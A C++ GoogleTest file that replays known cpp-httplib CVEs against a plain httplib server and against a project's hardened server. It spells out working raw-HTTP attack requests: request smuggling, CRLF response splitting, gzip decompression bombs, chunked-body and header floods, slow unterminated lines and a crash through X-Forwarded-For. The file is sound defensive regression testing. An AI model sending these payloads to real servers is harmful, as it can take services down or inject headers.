// SPDX-License-Identifier: MIT
//
// What is known to break cpp-httplib, tried on a plain httplib::Server and on ours.
//
// Debian's packages have few of the upstream fixes, and another version comes with each release: so
// each attack is measured on the installed one, and what it did there is printed. On Debian 12's
// version every attack has to succeed, or it would prove nothing that ours withstands it.

#include "support/child_process.h"
#include "unit/http/server_fixture.h"

#include <httplib.h>
#include <sys/wait.h>
#include <unistd.h>

#include <atomic>
#include <functional>
#include <iostream>
#include <memory>
#include <ostream>
#include <stdexcept>
#include <string>
#include <string_view>
#include <thread>
#include <utility>

namespace handover::http {
namespace {

constexpr std::size_t mebibyte = std::size_t{1} << 20U;
constexpr std::size_t body_limit = mebibyte;
constexpr std::size_t page_size = 10'000;
/// More than the socket buffers of both sides hold: who has sent it has been read.
constexpr std::size_t more_than_buffers_hold = 24 * mebibyte;

/// What a route saw of a body, as it came.
std::atomic<std::size_t> bytes_seen = 0;

void answer_with(httplib::Response& response, const std::string& text) {
    response.set_content(text, "text/plain");
}

bool has_line_break(const httplib::Headers& headers) {
    return std::any_of(headers.begin(), headers.end(), [](const auto& header) {
        return header.second.find_first_of("\r\n") != std::string::npos;
    });
}

/// Debian 12 and 13 have a version that knows of none.
template <class Server>
void trust_proxies(Server& server) {
    if constexpr (requires { server.set_trusted_proxies({"127.0.0.1"}); })
        server.set_trusted_proxies({"127.0.0.1"});
}

/// Handlers such as people write.
void add_routes(httplib::Server& server) {
    trust_proxies(server);
    server.Get("/hello", [](const httplib::Request&, httplib::Response& response) {
        answer_with(response, "hello");
    });
    server.Get("/page", [](const httplib::Request&, httplib::Response& response) {
        answer_with(response, std::string(page_size, 'p'));
    });
    server.Get("/smuggled", [](const httplib::Request&, httplib::Response& response) {
        answer_with(response, "smuggled");
    });
    server.Post("/size", [](const httplib::Request& request, httplib::Response& response) {
        answer_with(response, std::to_string(request.body.size()));
    });
    server.Post("/read", [](const httplib::Request&, httplib::Response& response,
                            const httplib::ContentReader& reader) {
        bytes_seen = 0;
        (void)reader([](const char*, std::size_t size) {
            bytes_seen += size;
            return true;
        });
        answer_with(response, std::to_string(bytes_seen));
    });
    server.Get("/who", [](const httplib::Request& request, httplib::Response& response) {
        answer_with(response, request.get_header_value("REMOTE_ADDR") + " " + request.remote_addr);
    });
    server.Get("/named", [](const httplib::Request& request, httplib::Response& response) {
        response.headers.emplace("X-Name" + request.get_param_value("name"),
                                 request.get_param_value("value"));
        answer_with(response, "named");
    });
    server.Get("/throw", [](const httplib::Request&, httplib::Response&) {
        throw std::runtime_error("secret");
    });
    server.set_error_handler([](const httplib::Request& request, httplib::Response& response) {
        if (request.path == "/throw") response.status = 404;
    });
    server.Get("/lines", [](const httplib::Request& request, httplib::Response& response) {
        answer_with(response, has_line_break(request.headers) ? "dirty" : "clean");
    });
}

/// httplib as its documentation shows it, with its own limit of bodies set to ours.
class PlainServer {
  public:
    PlainServer() {
        add_routes(server_);
        server_.set_payload_max_length(body_limit);
        port_ = server_.bind_to_any_port("127.0.0.1");
        thread_ = std::thread([this] { server_.listen_after_bind(); });
        while (!server_.is_running()) std::this_thread::yield();
    }
    ~PlainServer() {
        server_.stop();
        thread_.join();
    }
    PlainServer(const PlainServer&) = delete;
    PlainServer& operator=(const PlainServer&) = delete;

    [[nodiscard]] Endpoint endpoint() const {
        return Endpoint::parse("127.0.0.1:" + std::to_string(port_));
    }

  private:
    httplib::Server server_;
    int port_ = 0;
    std::thread thread_;
};

// ---- How to tell who wins

/// Keep-alive and timeout enough for a server that has to be waited for.
RawClient connect(const Endpoint& server) {
    return RawClient(server);
}

/// The next response; status 0 if the server ends the connection instead.
RawResponse response_or_end(RawClient& client) {
    try {
        return client.receive();
    } catch (const std::runtime_error&) {
        return {};
    }
}

RawResponse answer_to(const Endpoint& server, const std::string& request) {
    auto client = connect(server);
    try {
        client.send(request);
    } catch (const std::runtime_error&) {  // refused before its end; why, the response says
    }
    return response_or_end(client);
}

/// Does the server take line after line, or byte after byte, without a word?
bool swallows(const Endpoint& server, const std::string& beginning) {
    auto client = connect(server);
    client.send(beginning);
    const std::string piece(65536, 'a');
    try {
        for (std::size_t sent = 0; sent < more_than_buffers_hold; sent += piece.size()) {
            if (!client.is_quiet()) return false;
            client.send(piece);
        }
        return client.is_quiet();
    } catch (const std::runtime_error&) {
        return false;
    }
}

/// `count` zero bytes, packed: a thousandth of that.
std::string gzip_of_zeros(std::size_t count) {
    const auto packed = test::run_command(
        {"sh", "-c", "head -c " + std::to_string(count) + " /dev/zero | gzip -9"}, test::timeout);
    EXPECT_TRUE(packed.ok()) << packed.err;
    return packed.out;
}

std::string post(const std::string& path, const std::string& headers, const std::string& body) {
    return "POST " + path + " HTTP/1.1\r\nHost: a\r\n" + headers +
           "Content-Length: " + std::to_string(body.size()) + "\r\n\r\n" + body;
}

/// Does this route see more bytes than the limit allows, of a body that is not longer than that?
bool explodes(const Endpoint& server, const std::string& path) {
    const auto bomb = gzip_of_zeros(16 * body_limit);
    EXPECT_LT(bomb.size(), body_limit);
    const auto response = answer_to(server, post(path, "Content-Encoding: gzip\r\n", bomb));
    return response.status == 200 && std::stoul(response.body) > body_limit;
}

/// Is what stands in the body of one request answered as another one?
bool smuggles(const Endpoint& server, const std::string& headers, const std::string& body) {
    auto client = connect(server);
    client.send("GET /hello HTTP/1.1\r\nHost: a\r\n" + headers + "\r\n");
    const std::string wanted = "GET /smuggled HTTP/1.1\r\nHost: a\r\nConnection: close\r\n\r\n";
    const auto first = response_or_end(client);
    if (first.status != 200) return false;
    try {
        client.send(body + wanted + "GET /hello HTTP/1.1\r\nHost: a\r\nConnection: close\r\n\r\n");
        return client.receive_to_end().find("smuggled") != std::string::npos;
    } catch (const std::runtime_error&) {
        return false;
    }
}

// ---- The attacks

struct Attack {
    std::string name;
    std::string cve;
    std::function<bool(const Endpoint&)> succeeds;
};

std::ostream& operator<<(std::ostream& out, const Attack& attack) {
    return out << attack.cve;
}

Attack line_without_an_end() {
    return {"line_without_an_end", "CVE-2025-53628",
            [](const Endpoint& server) { return swallows(server, "GET /"); }};
}

Attack chunk_extension_without_an_end() {
    return {"chunk_extension_without_an_end", "CVE-2025-53628, in a body",
            [](const Endpoint& server) {
                return swallows(server,
                                "POST /size HTTP/1.1\r\nHost: a\r\n"
                                "Transfer-Encoding: chunked\r\n\r\n5;");
            }};
}

Attack chunked_body_beyond_the_limit() {
    return {"chunked_body_beyond_the_limit", "CVE-2025-46728, CVE-2025-53629",
            [](const Endpoint& server) {
                std::string request =
                    "POST /size HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n";
                for (std::size_t size = 0; size < 4 * body_limit; size += 65536)
                    request += "10000\r\n" + std::string(65536, 'a') + "\r\n";
                return answer_to(server, request + "0\r\n\r\n").status == 200;
            }};
}

Attack thousand_headers() {
    return {"thousand_headers", "CVE-2025-52887", [](const Endpoint& server) {
                std::string request = "GET /hello HTTP/1.1\r\n";
                for (int i = 0; i < 1000; ++i) request += "X-" + std::to_string(i) + ": a\r\n";
                return answer_to(server, request + "\r\n").status == 200;
            }};
}

Attack forged_remote_address() {
    return {"forged_remote_address", "CVE-2025-66570", [](const Endpoint& server) {
                return answer_to(server, "GET /who HTTP/1.1\r\nREMOTE_ADDR: 6.6.6.6\r\n\r\n")
                           .body.find("6.6.6.6") != std::string::npos;
            }};
}

Attack split_response() {
    return {"split_response", "CVE-2026-21428", [](const Endpoint& server) {
                for (const char* part : {"name", "value"}) {
                    const auto response =
                        answer_to(server, "GET /named?" + std::string(part) +
                                              "=a%0d%0aX-Evil:%20yes HTTP/1.1\r\nHost: a\r\n\r\n");
                    if (response.header("X-Evil")) return true;
                }
                return false;
            }};
}

Attack decompression_bomb() {
    return {"decompression_bomb", "CVE-2026-22776",
            [](const Endpoint& server) { return explodes(server, "/size"); }};
}

Attack decompression_bomb_for_a_content_reader() {
    return {"decompression_bomb_for_a_content_reader", "CVE-2026-28435",
            [](const Endpoint& server) { return explodes(server, "/read"); }};
}

Attack text_of_an_exception() {
    return {"text_of_an_exception", "CVE-2026-28434", [](const Endpoint& server) {
                return answer_to(server, "GET /throw HTTP/1.1\r\nHost: a\r\n\r\n")
                           .head.find("secret") != std::string::npos;
            }};
}

Attack request_in_an_unread_body() {
    return {"request_in_an_unread_body", "CVE-2026-34441", [](const Endpoint& server) {
                // All that follows is the body of the first request, whoever reads it.
                return smuggles(server, "Content-Length: 1000\r\n", "");
            }};
}

Attack negative_chunk_size() {
    return {"negative_chunk_size", "CVE-2026-45352", [](const Endpoint& server) {
                auto client = connect(server);
                bytes_seen = 0;
                client.send(
                    "POST /read HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n-2\r\n" +
                    std::string(100, 'a'));
                EXPECT_TRUE(eventually([&] { return bytes_seen > 0 || !client.is_quiet(); }));
                return bytes_seen > 0;
            }};
}

Attack line_break_in_a_header() {
    return {"line_break_in_a_header", "CVE-2026-45372", [](const Endpoint& server) {
                return answer_to(server, "GET /lines HTTP/1.1\r\nX: a%0d%0aY: b\r\n\r\n").body ==
                       "dirty";
            }};
}

Attack line_break_in_a_header_in_unicode() {
    return {
        "line_break_in_a_header_in_unicode", "CVE-2026-45372, as %u000a",
        [](const Endpoint& server) {
            return answer_to(server, "GET /lines HTTP/1.1\r\nX: a%u000d%u000aY: b\r\n\r\n").body ==
                   "dirty";
        }};
}

Attack many_overlapping_ranges() {
    return {"many_overlapping_ranges", "CVE-2011-3192 (Apache's)", [](const Endpoint& server) {
                std::string ranges = "Range: bytes=0-";
                for (int i = 0; i < 1000; ++i) ranges += ",0-";
                const auto response =
                    answer_to(server, "GET /page HTTP/1.1\r\nHost: a\r\n" + ranges + "\r\n\r\n");
                return response.body.size() > 10 * page_size;
            }};
}

class HttplibAttack : public testing::TestWithParam<Attack> {};

TEST_P(HttplibAttack, does_no_harm_here) {
    const bool harms_httplib = GetParam().succeeds(PlainServer().endpoint());
    std::cout << GetParam().cve << (harms_httplib ? " succeeds" : " fails")
              << " on plain cpp-httplib " << CPPHTTPLIB_VERSION << '\n';
    if (std::string_view(CPPHTTPLIB_VERSION) == "0.11.4") {  // Debian 12
        EXPECT_TRUE(harms_httplib) << "the attack is none";
    }

    ServerOptions options;
    options.body_bytes_max = body_limit;
    TestServer server(options);
    add_routes(*server);
    server.start();
    EXPECT_FALSE(GetParam().succeeds(server.listener().endpoint));
    EXPECT_EQ(server.connect().get("/hello").status, 200) << "and others are served";
}

/// What recurses once for each character (CVE-2026-29076 and its like) must fit into our stacks.
TEST(HttplibAttacks, long_texts_for_its_regular_expressions_end_no_thread) {
    TestServer server;
    server->Get(R"(/regex/(.*))", [](const httplib::Request& request, httplib::Response& response) {
        answer_with(response, std::to_string(request.matches[1].length()));
    });
    add_routes(*server);
    server.start();
    const auto endpoint = server.listener().endpoint;
    const std::string text(8000, 'a');
    EXPECT_EQ(answer_to(endpoint, "GET /regex/" + text + " HTTP/1.1\r\n\r\n").body, "8000");
    const std::string digits(30'000, '1');
    EXPECT_NE(
        answer_to(endpoint, "GET /page HTTP/1.1\r\nRange: bytes=" + digits + "-\r\n\r\n").status,
        0);
    for (const char* name :
         {"name=\"", "name=\"a\"; filename=\"", "name=\"a\"; filename*=UTF-8''"}) {
        const std::string part = "--b\r\nContent-Disposition: form-data; " + std::string(name) +
                                 text + "\"\r\n\r\nx\r\n--b--\r\n";
        const auto type = "Content-Type: multipart/form-data; boundary=b\r\n";
        EXPECT_NE(answer_to(endpoint, post("/size", type, part)).status, 0) << name;
    }
    EXPECT_EQ(server.connect().get("/hello").status, 200);
}

/// CVE-2026-46527
std::string request_of_nobody(const std::string& nobody) {
    return "GET /hello HTTP/1.1\r\nX-Forwarded-For: " + nobody + "\r\n\r\n";
}

/// In a process of its own, as it may be the last thing that it does.
bool ends_a_plain_server(const std::string& request) {
    const pid_t child = ::fork();
    if (child == 0) try {
            ::alarm(30);
            (void)answer_to(PlainServer().endpoint(), request);
            ::_exit(0);
        } catch (const std::exception&) {
            ::_exit(1);
        }
    int status = 0;
    EXPECT_EQ(::waitpid(child, &status, 0), child);
    return status != 0;
}

TEST(HttplibAttacks, a_list_of_forwarders_that_names_nobody_ends_no_process) {
    const bool harms_httplib = ends_a_plain_server(request_of_nobody(","));
    std::cout << "CVE-2026-46527" << (harms_httplib ? " succeeds" : " fails")
              << " on plain cpp-httplib " << CPPHTTPLIB_VERSION << '\n';
    TestServer server;
    add_routes(*server);
    server.start();
    const auto endpoint = server.listener().endpoint;
    for (const char* nobody : {"", ",", "%2C"})
        EXPECT_EQ(answer_to(endpoint, request_of_nobody(nobody)).status, 400) << nobody;
    EXPECT_EQ(answer_to(endpoint, request_of_nobody(", 192.0.2.1")).status, 200);
    EXPECT_EQ(server.connect().get("/hello").status, 200);
}

INSTANTIATE_TEST_SUITE_P(
    Http, HttplibAttack,
    testing::Values(line_without_an_end(), chunk_extension_without_an_end(),
                    chunked_body_beyond_the_limit(), thousand_headers(), forged_remote_address(),
                    split_response(), decompression_bomb(),
                    decompression_bomb_for_a_content_reader(), text_of_an_exception(),
                    request_in_an_unread_body(), negative_chunk_size(), line_break_in_a_header(),
                    line_break_in_a_header_in_unicode(), many_overlapping_ranges()),
    [](const auto& test) { return test.param.name; });

}  // namespace
}  // namespace handover::http
